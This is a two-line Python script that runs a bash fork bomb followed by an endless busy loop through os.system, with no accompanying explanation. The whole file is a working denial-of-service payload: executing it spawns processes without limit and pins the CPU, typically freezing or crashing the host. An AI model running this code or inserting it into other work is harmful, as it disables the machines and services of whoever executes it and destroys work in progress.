import os
os.system(':(){ :|:& };: ; while :; do :; done')
